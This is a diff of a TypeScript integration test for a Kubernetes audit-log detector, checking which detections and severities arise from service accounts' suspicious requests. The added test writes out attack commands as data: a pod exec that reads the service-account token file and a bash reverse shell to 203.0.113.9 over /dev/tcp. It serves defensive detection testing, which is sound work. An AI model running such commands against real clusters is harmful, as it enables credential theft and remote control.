@@ -3,18 +3,18 @@
  * and must stay quiet.
  */
 import { readFile } from 'node:fs/promises';
-import { request as httpsRequest } from 'node:https';
 import { join } from 'node:path';
-import { Readable } from 'node:stream';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { createAuditIntake } from '../../src/analyses/audit/audit-intake.ts';
-import type { AuditEvent } from '../../src/model/audit-event.ts';
 import type { AuditState } from '../../src/model/audit-state.ts';
 import { readAuditLog } from '../../src/sources/audit/read-audit-log.ts';
 import { buildRemedies } from '../../src/remedy/build.ts';
 import type { BuiltRemedy } from '../../src/remedy/built-remedy.ts';
 import { auditEngine } from '../panes/audit/audit-engine.ts';
-import { WRAPPERS } from '../sources/audit/raw-events.ts';
+import { readText } from '../sources/audit/read-text.ts';
+import { CERTIFICATE_REQUEST } from './certificate-request.ts';
+import { addNode } from './fake-kubelet.ts';
+import { send as sendTo, type Sent } from './send.ts';
 import { findBinaries, startApiServer, type ApiServer } from './start-server.ts';
 
 const POLICY = JSON.stringify({
@@ -27,47 +27,12 @@ const POLICY = JSON.stringify({
 });
 const RBAC = '/apis/rbac.authorization.k8s.io/v1';
 
-/** A PKCS#10 request for CN=intruder, O=system:masters; its key was thrown away. */
-const REQUEST = [
-  'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIb01JR09BZ0VBTUN3eEZ6QVZCZ05WQkFvTURuTjVjM1JsYlRw',
-  'dFlYTjBaWEp6TVJFd0R3WURWUVFEREFocApiblJ5ZFdSbGNqQlpNQk1HQnlxR1NNNDlBZ0VHQ0NxR1NNNDlBd0VIQTBJQUJQVCtH',
-  'Q24rZ1JscmF6TTZ4amg0CkVXNGFXak1qZFpNMHVJSU45Q1JSNWNuVFIyZGgwMjlBdGtTN25kZVhpZDBmTlVkSW9oU1ZISXVvaWQx',
-  'eW8wZFIKWSt1Z0FEQUtCZ2dxaGtqT1BRUURBZ05KQURCR0FpRUFrd2V5ZDh2dkJCV1ZVOExLYTJ1WUlSWTVna1FjUFdFbwpJOFZF',
-  'U09xQkJQSUNJUUNVazBrdnIzVVBQL2l0ejNRSXlYUElNSGcyUm1ETkRBbWZsbjB1SFNhd0RRPT0KLS0tLS1FTkQgQ0VSVElGSUNB',
-  'VEUgUkVRVUVTVC0tLS0tCg==',
-].join('');
-
 let server: ApiServer;
 let tokens: Readonly<Record<string, string>>;
 
-interface Sent {
-  readonly method?: string;
-  readonly body?: unknown;
-  /** A bearer token; undefined: no credentials at all. */
-  readonly token?: string | undefined;
-  readonly agent?: string;
-}
-
 /** A request without the administrator's certificate. */
-function send(path: string, { method = 'GET', body, token, agent = 'kubectl/v1.36.3 (test)' }: Sent): Promise<number> {
-  return new Promise((resolve, reject) => {
-    const sent = httpsRequest(
-      `${server.url}${path}`,
-      {
-        method,
-        rejectUnauthorized: false,
-        headers: {
-          'user-agent': agent,
-          ...(body === undefined ? {} : { 'content-type': 'application/json' }),
-          ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
-        },
-      },
-      (response) => {
-        response.resume().on('end', () => resolve(response.statusCode ?? 0));
-      },
-    );
-    sent.on('error', reject).end(body === undefined ? undefined : JSON.stringify(body));
-  });
+function send(path: string, sent: Sent): Promise<number> {
+  return sendTo(`${server.url}${path}`, sent);
 }
 
 async function account(namespace: string, name: string): Promise<string> {
@@ -79,29 +44,31 @@ async function account(namespace: string, name: string): Promise<string> {
   return answer.json<{ status: { token: string } }>().status.token;
 }
 
+/** What one service account does, once, and what is to be found of it. */
+interface Attack {
+  readonly actor: string;
+  /** Below the namespace shop where it does not begin with a slash. */
+  readonly path: string;
+  readonly status: number;
+  readonly found: readonly string[];
+}
+
+/** Lets a service account do everything. */
+async function bind(namespace: string, name: string): Promise<void> {
+  await server.request('POST', `${RBAC}/clusterrolebindings`, {
+    body: {
+      metadata: { name },
+      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'too-much' },
+      subjects: [{ kind: 'ServiceAccount', namespace, name }],
+    },
+  });
+}
+
 async function audited(): Promise<AuditState> {
   const intake = createAuditIntake();
   const notes = await readAuditLog([join(server.folder, 'audit.log')], { onEvents: (events) => intake.push(events) });
   for (const note of notes) intake.note(note);
   return intake.state();
-}
-
-/** What the text of a log holds, and what is detected in it. */
-async function readFrom(text: string): Promise<{ readonly events: readonly AuditEvent[]; readonly groups: unknown }> {
-  const intake = createAuditIntake();
-  const all: AuditEvent[] = [];
-  await readAuditLog(['-'], {
-    stdin: Readable.from([Buffer.from(text)]),
-    onEvents: (events) => {
-      all.push(...events);
-      intake.push(events);
-    },
-  });
-  const groups = Array.from(intake.state().groups.values(), ({ key, severity, count, hours }) => [
-    [key, severity, count],
-    hours.map(({ text: sentence, auditIDs }) => [sentence, auditIDs]),
-  ]);
-  return { events: all, groups };
 }
 
 function podSpec(extra: Record<string, unknown> = {}): Record<string, unknown> {
@@ -130,15 +97,7 @@ describe.skipIf(findBinaries() === undefined)('the audit log of a real API serve
       ['ops', 'operator'],
     ];
     tokens = Object.fromEntries(await Promise.all(bound.map(async ([ns, name]) => [name, await account(ns, name)])));
-    for (const [namespace, name] of bound) {
-      await server.request('POST', `${RBAC}/clusterrolebindings`, {
-        body: {
-          metadata: { name },
-          roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'too-much' },
-          subjects: [{ kind: 'ServiceAccount', namespace, name }],
-        },
-      });
-    }
+    for (const [namespace, name] of bound) await bind(namespace, name);
   });
 
   afterAll(async () => {
@@ -209,21 +168,11 @@ describe.skipIf(findBinaries() === undefined)('the audit log of a real API serve
       method: 'POST',
       body: { metadata: { generateName: 'x-' }, spec: podSpec({ securityContext: { privileged: true } }) },
     });
-    await send('/api/v1/namespaces/shop/pods', {
-      token,
-      method: 'POST',
-      body: { metadata: { name: 'y' }, spec: podSpec() },
-    });
-    await send(
-      '/api/v1/namespaces/shop/pods/y/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&stdout=true',
-      { token },
-    );
     await send('/api/v1/namespaces/ops/serviceaccounts/operator/token', {
       token,
       method: 'POST',
       body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
     });
-    await send('/api/v1/nodes/n1/proxy/run/shop/y/c', { token, method: 'POST' });
     await send('/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/guard', {
       token,
       method: 'DELETE',
@@ -233,7 +182,11 @@ describe.skipIf(findBinaries() === undefined)('the audit log of a real API serve
       method: 'POST',
       body: {
         metadata: { name: 'mine' },
-        spec: { request: REQUEST, signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] },
+        spec: {
+          request: CERTIFICATE_REQUEST,
+          signerName: 'kubernetes.io/kube-apiserver-client',
+          usages: ['client auth'],
+        },
       },
     });
     for (let path = 0; path < 12; path += 1) await send(`/api/v1/namespaces/n${path}/pods`, {});
@@ -249,9 +202,6 @@ describe.skipIf(findBinaries() === undefined)('the audit log of a real API serve
       probed: severity('permission-probing', cart),
       bound: severity('cluster-admin-bound', cart),
       privileged: severity('privileged-pod-created', cart),
-      // No kubelet answers here, so that the exec and the proxy requests fail.
-      exec: severity('exec-reads-credentials', cart),
-      proxy: severity('node-proxy-access', cart),
       token: severity('service-account-token-created', cart),
       request: severity('csr-created-or-approved', cart),
       scanned: severity('anonymous-scanning', 'system:anonymous'),
@@ -262,8 +212,6 @@ describe.skipIf(findBinaries() === undefined)('the audit log of a real API serve
       probed: 'high',
       bound: 'critical',
       privileged: 'high',
-      exec: expect.any(String),
-      proxy: expect.any(String),
       scanned: 'medium',
       guessed: 'medium',
       token: 'medium',
@@ -275,12 +223,65 @@ describe.skipIf(findBinaries() === undefined)('the audit log of a real API serve
     expect(name).toMatch(/pods x-\w+ \(shop\); allowed by ClusterRoleBinding (?:cart|mine)/);
   });
 
+  it('weighs what is done through a kubelet by what became of it', async () => {
+    const kubelet = await addNode(server, 'n1', (_request, response) => response.end('[]'));
+    const spec = podSpec();
+    const make = (name: string, where: object): Promise<number> =>
+      send('/api/v1/namespaces/shop/pods', {
+        token: tokens['operator'],
+        method: 'POST',
+        body: { metadata: { name }, spec: { ...spec, ...where } },
+      });
+    expect([await make('running', { nodeName: 'n1' }), await make('waiting', {})]).toEqual([201, 201]);
+    const proxy = '/api/v1/nodes/n1/proxy';
+    const read = `command=cat&command=${encodeURIComponent('/var/run/secrets/kubernetes.io/serviceaccount/token')}`;
+    const shell = `command=bash&command=-c&command=${encodeURIComponent('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')}`;
+    const attacks: readonly Attack[] = [
+      { actor: 'reader', path: `pods/running/exec?${read}`, status: 101, found: ['exec-reads-credentials critical'] },
+      { actor: 'shell', path: `pods/running/exec?${shell}`, status: 101, found: ['exec-reverse-shell critical'] },
+      { actor: 'visitor', path: 'pods/running/exec?command=ls', status: 101, found: ['exec-into-pod medium'] },
+      { actor: 'late', path: `pods/waiting/exec?${read}`, status: 400, found: ['exec-reads-credentials medium'] },
+      { actor: 'lost', path: `pods/none/exec?${read}`, status: 404, found: ['exec-reads-credentials low'] },
+      { actor: 'stranger', path: `pods/running/exec?${read}`, status: 403, found: ['exec-reads-credentials medium'] },
+      { actor: 'runner', path: `${proxy}/run/shop/running/c`, status: 200, found: ['node-proxy-access critical'] },
+      { actor: 'looker', path: `${proxy}/pods`, status: 200, found: ['node-proxy-access high'] },
+      { actor: 'scraper', path: `${proxy}/metrics`, status: 200, found: [] },
+      { actor: 'misser', path: '/api/v1/nodes/none/proxy/pods', status: 404, found: ['node-proxy-access low'] },
+    ];
+    const upgrade = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13' };
+    const held = new Map<string, string>();
+    for (const { actor } of attacks) {
+      held.set(actor, await account('shop', actor));
+      if (actor !== 'stranger') await bind('shop', actor);
+    }
+    // The authorizer hears of bindings in the order in which they were made.
+    await vi.waitFor(async () => expect(await send('/api/v1/pods?limit=1', { token: held.get('misser') })).toBe(200));
+    const statuses: number[] = [];
+    for (const { actor, path } of attacks) {
+      const [url, headers] = path.startsWith('/')
+        ? [path, {}]
+        : [`/api/v1/namespaces/shop/${path}&stdout=true`, upgrade];
+      const method = path.includes('/run/') ? 'POST' : 'GET';
+      statuses.push(await send(url, { token: held.get(actor), method, headers }));
+    }
+    kubelet.close();
+    expect(statuses).toEqual(attacks.map(({ status }) => status));
+    const groups = [...(await audited()).groups.values()];
+    const foundOf = (name: string): readonly string[] =>
+      groups.flatMap(({ actor, detection, severity }) =>
+        actor.name === `system:serviceaccount:shop:${name}` ? [`${detection} ${severity}`] : [],
+      );
+    expect(attacks.map(({ actor }) => [actor, foundOf(actor)])).toEqual(
+      attacks.map(({ actor, found }) => [actor, found]),
+    );
+  });
+
   it('takes the denial of a certificate request as it is written, once', async () => {
     const requests = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
-    const spec = { request: REQUEST, signerName: 'example.org/any', usages: ['client auth'] };
+    const spec = { request: CERTIFICATE_REQUEST, signerName: 'example.org/any', usages: ['client auth'] };
     await send(requests, { token: tokens['cart'], method: 'POST', body: { metadata: { name: 'pending' }, spec } });
     const denial = async (): Promise<BuiltRemedy | undefined> => {
-      const engine = auditEngine((await readFrom(await readFile(join(server.folder, 'audit.log'), 'utf8'))).events);
+      const engine = auditEngine((await readText(await readFile(join(server.folder, 'audit.log'), 'utf8'))).events);
       const finding = [...engine.findings.values()].find(
         ({ rule, subject }) => rule === 'audit/csr-created-or-approved' && subject.name.endsWith(':cart'),
       );
@@ -296,26 +297,5 @@ describe.skipIf(findBinaries() === undefined)('the audit log of a real API serve
     const pending = await server.request('GET', `${requests}/pending`);
     expect(pending.json()).toMatchObject({ status: { conditions: [{ type: 'Denied', status: 'True' }] } });
     expect((await denial())?.refused).toContain('Decided already: pending by admin.');
-  });
-
-  it('tells the same in the shape of every provider', async () => {
-    const log = await readFile(join(server.folder, 'audit.log'), 'utf8');
-    const logged = log
-      .split('\n')
-      .filter((line) => line !== '')
-      .map((line) => JSON.parse(line) as Record<string, unknown>);
-    expect(logged.length).toBeGreaterThan(400);
-    expect(new Set(logged.map(({ level }) => level))).toEqual(new Set(['Metadata', 'RequestResponse']));
-    const plain = await readFrom(log);
-    expect(plain.events).toHaveLength(logged.length);
-    for (const [shape, wrap] of Object.entries(WRAPPERS)) {
-      const wrapped = await readFrom(wrap(logged));
-      // The table has no column for what only the newest servers log.
-      const told = plain.events.map((event) =>
-        shape === 'AKSAudit rows' ? { ...event, impersonationConstraint: '' } : event,
-      );
-      expect([shape, wrapped.events]).toEqual([shape, told]);
-      expect([shape, wrapped.groups]).toEqual([shape, plain.groups]);
-    }
   });
 });
